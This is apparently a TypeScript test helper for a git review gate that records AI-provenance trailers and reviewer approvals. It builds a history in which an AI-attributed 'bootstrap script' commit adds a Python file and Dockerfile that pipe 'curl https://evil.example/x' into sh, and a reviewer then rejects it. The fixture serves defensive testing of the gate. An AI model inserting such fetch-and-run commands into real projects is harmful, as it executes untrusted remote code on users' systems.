import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { recordDecision } from './approvals';
import { withoutGate } from './gateAgreement';
import { commitFile, policyJson, setup, type Setup } from './gateServer';
import { passes } from './refVerdicts';
import { makeKey } from './reviewerKeys';
import { tempDir } from './tempDirs';
import { TempRepo } from './tempRepo';

/** Trailers of the K3 family's commits (tagVouchedState, tagExitVouched). */
export const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';
export const NONE = 'AI-Provenance: v1 ai=0 human=0 untracked=0';
export const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';

/**
 * main (the gate's start) → B (a Dockerfile, planted past the gate) → the rejected draft E (a `curl | sh` payload
 * and Dockerfile) → the approved fix T, landed on main by fast-forward through the gate (outside tester, session
 * 11, K3). Ada's main is left at T. With `approvedBase`, both reviewers approve B as a state.
 */
export function landedRange(
  s: Setup,
  o: { approvedBase?: boolean } = {},
): { start: string; base: string; draft: string; tip: string } {
  const { ada, server } = s;
  const earlier = new Date(Date.now() - 3_600_000).toISOString();
  const start = ada.git('rev-parse', 'HEAD');
  commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `docker\n\n${HUMAN.replace('human=1', 'human=2')}`);
  withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
  const base = ada.git('rev-parse', 'HEAD');
  if (o.approvedBase) {
    // B approved as a state after the fact: the nearest vouched point below E, so only E's own step is judged.
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: base, base: start });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: base, base: start });
  }
  ada.write('payload.py', 'import os\nos.system("curl https://evil.example/x | sh")\n');
  ada.write('Dockerfile', EVIL_DOCKERFILE);
  ada.git('add', '-A');
  const draft = ada.commit(`agent: bootstrap script\n\n${AI}`);
  recordDecision(ada, s.bob, { email: 'bob@example.com', tip: draft, base, decision: 'reject', time: earlier });
  ada.git('rm', '-q', 'payload.py');
  ada.write('Dockerfile', SAFE_DOCKERFILE);
  ada.git('add', '-A');
  const tip = ada.commit(`address review: drop the bootstrap script\n\n${HUMAN}`);
  recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
  recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
  assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
  passes(s, tip, 'refs/heads/main');
  return { start, base, draft, tip };
}

type Range = ReturnType<typeof landedRange>;
type LandedPristine = { server: string; ada: string; range: Range };
/**
 * Folders of a server and clone just after setup(policy) and landedRange, per policy text and `approvedBase`, kept
 * per process on globalThis as setup()'s own are (gateServer.ts): the K3 family's 16 tests each started with the
 * same two pushes, six signatures and a three-way agreement check (~4 s of CPU each).
 */
const landedShared = globalThis as { __countersignLandedPristines?: Map<string, LandedPristine> };
const landedPristines = (landedShared.__countersignLandedPristines ??= new Map<string, LandedPristine>());

/**
 * setup(policy) then landedRange(s, o), each call with its own copies of the folders (the first call per policy
 * text builds them for real). The commits, notes and statements are the first call's, so their ids are the same
 * in every copy; tests take them from what this returns, as from landedRange.
 */
export function landedSetup(o: { approvedBase?: boolean } = {}, policy?: string): Setup & Range {
  const text = policy ?? policyJson(makeKey('bob'), makeKey('carol'));
  const key = JSON.stringify([text, o.approvedBase === true]);
  const have = landedPristines.get(key);
  if (!have) {
    const s = setup(text);
    const range = landedRange(s, o);
    const keep = tempDir('cs-landed-');
    fs.cpSync(s.server.dir, path.join(keep, 'server.git'), { recursive: true });
    fs.cpSync(s.ada.dir, path.join(keep, 'ada'), { recursive: true });
    landedPristines.set(key, { server: path.join(keep, 'server.git'), ada: path.join(keep, 'ada'), range });
    return { ...s, ...range };
  }
  const parent = tempDir('cs-gate-');
  fs.cpSync(have.server, path.join(parent, 'server.git'), { recursive: true });
  fs.cpSync(have.ada, path.join(parent, 'ada'), { recursive: true });
  const server = TempRepo.at(path.join(parent, 'server.git'));
  const ada = TempRepo.at(path.join(parent, 'ada'));
  ada.git('remote', 'set-url', 'origin', server.dir);
  // The copied index holds the original files' inodes and times: refresh it, as setup() does.
  ada.git('update-index', '-q', '--refresh');
  const keys = { bob: makeKey('bob'), carol: makeKey('carol'), mallory: makeKey('mallory') };
  return { server, ada, ...keys, ...have.range };
}
